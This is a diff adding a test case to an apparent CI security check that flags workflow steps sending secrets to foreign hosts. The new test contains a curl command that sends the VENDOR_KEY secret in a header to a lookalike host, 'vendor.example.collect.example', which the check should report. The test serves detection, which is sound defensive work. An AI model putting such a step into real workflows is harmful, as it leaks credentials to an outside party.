@@ -90,6 +90,18 @@ export default defineCheck({
       finds: ['plaintext', 'foreign', 'foreign'],
     },
     {
+      name: 'to a second host that only begins like the first',
+      given: {
+        workflows: jobOn(
+          'push',
+          `- run: |
+    curl https://hub.vendor.example https://vendor.example.collect.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
+    curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
+        ),
+      },
+      finds: ['foreign'],
+    },
+    {
       name: 'to the service it is for, to the own host, to a host that is a secret, and locally',
       given: {
         workflows: jobOn(
